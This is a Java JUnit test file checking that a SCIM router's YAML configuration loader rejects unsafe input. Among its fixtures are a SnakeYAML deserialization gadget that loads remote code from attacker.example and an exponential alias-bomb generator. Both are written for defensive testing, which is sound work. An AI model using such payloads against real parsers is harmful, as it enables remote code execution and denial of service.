package io.scimrouter.config;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** The YAML reader refuses what a configuration never needs; errors name the file. */
class SafeYamlTest {
    @TempDir
    Path dir;

    @Test
    void duplicateKeys_areRejected_withTheirLine() {
        Path file = ConfigFixtures.write(dir, "server:\n  port: 1\n  port: 2\n");

        assertThatThrownBy(() -> ConfigLoader.load(file, Map.of()))
                .isInstanceOf(ConfigException.class)
                .hasMessageStartingWith(file + ": not valid YAML: line 3")
                .hasMessageContaining("duplicate key port");
    }

    @Test
    void javaTypeTags_areRejected() {
        Path file = ConfigFixtures.write(dir, "server: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                + "[[!!java.net.URL [\"http://attacker.example/\"]]]]\n");

        assertThatThrownBy(() -> ConfigLoader.load(file, Map.of()))
                .isInstanceOf(ConfigException.class)
                .hasMessageStartingWith(file + ": not valid YAML")
                .hasMessageContaining("Global tag is not allowed");
    }

    @Test
    void aliasBombs_areRejected() {
        StringBuilder yaml = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char name = 'b'; name <= 'z'; name++) {
            char previous = (char) (name - 1);
            yaml.append(name).append(": &").append(name).append(" [*").append(previous).append(", *")
                    .append(previous).append(", *").append(previous).append("]\n");
        }
        Path file = ConfigFixtures.write(dir, yaml.toString());

        assertThatThrownBy(() -> ConfigLoader.load(file, Map.of()))
                .isInstanceOf(ConfigException.class)
                .hasMessageStartingWith(file + ": not valid YAML")
                .hasMessageContaining("aliases");
    }

    @Test
    void oversizedFiles_areRejected_evenWhenAllComment() {
        Path file = ConfigFixtures.write(dir, "# " + "x".repeat((int) SafeYaml.MAX_FILE_BYTES) + "\n");

        assertThatThrownBy(() -> ConfigLoader.load(file, Map.of()))
                .isInstanceOf(ConfigException.class)
                .hasMessage(file + ": larger than 1048576 bytes; a configuration is small");
    }

    @Test
    void oversizedEnvironmentValues_areRejected() {
        String huge = "[{project: p1, environment: e1, tenants: [" + "x".repeat(SafeYaml.MAX_CODE_POINTS) + "]}]";

        assertThatThrownBy(() -> ConfigLoader.load(null, Map.of("SCIM_ROUTER_TENANTS_STATIC", huge)))
                .isInstanceOf(ConfigException.class)
                .hasMessageStartingWith("SCIM_ROUTER_TENANTS_STATIC: not valid YAML")
                .hasMessageContaining("code points");
    }

    @Test
    void syntaxErrors_nameLineAndColumn() {
        Path file = ConfigFixtures.write(dir, "server:\n  port: [8080\n");

        assertThatThrownBy(() -> ConfigLoader.load(file, Map.of()))
                .isInstanceOf(ConfigException.class)
                .hasMessageStartingWith(file + ": not valid YAML: line 3");
    }

    @Test
    void aTopLevelList_isRejected() {
        Path file = ConfigFixtures.write(dir, "- server\n");

        assertThatThrownBy(() -> ConfigLoader.load(file, Map.of()))
                .hasMessageStartingWith(file + ": the top level must be a mapping of sections (server, backend,");
    }

    @Test
    void nonTextKeys_areRejected() {
        Path file = ConfigFixtures.write(dir, "server:\n  8080: port\n");

        assertThatThrownBy(() -> ConfigLoader.load(file, Map.of()))
                .hasMessage("server: key '8080' is not text");
    }

    @Test
    void aMissingFile_isNamed() {
        Path missing = dir.resolve("missing.yaml");

        assertThatThrownBy(() -> ConfigLoader.load(missing, Map.of()))
                .hasMessage(missing + ": cannot read the configuration file (NoSuchFileException)");
    }

    @Test
    void invalidUtf8_isRejected() throws Exception {
        Path file = Files.write(dir.resolve("latin1.yaml"), new byte[] {'a', ':', ' ', (byte) 0xE9, '\n'});

        assertThatThrownBy(() -> ConfigLoader.load(file, Map.of()))
                .hasMessage(file + ": not valid UTF-8");
    }
}
